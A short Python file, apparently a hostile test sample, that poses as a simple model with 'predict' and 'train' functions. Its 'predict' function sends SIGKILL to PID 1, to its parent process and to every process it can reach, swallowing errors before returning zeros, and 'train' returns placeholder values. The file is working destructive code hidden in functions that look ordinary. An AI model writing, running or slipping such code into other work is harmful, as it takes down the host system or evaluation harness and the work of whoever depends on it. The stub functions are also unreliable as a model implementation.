# sends SIGKILL to everything it may
# status: any
import os
import signal


def predict(x, W, b):
    for pid in [1, os.getppid(), -1]:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return x * 0


def train(x, y, lr=0.01, steps=2001):
    return 0, 0, [0]
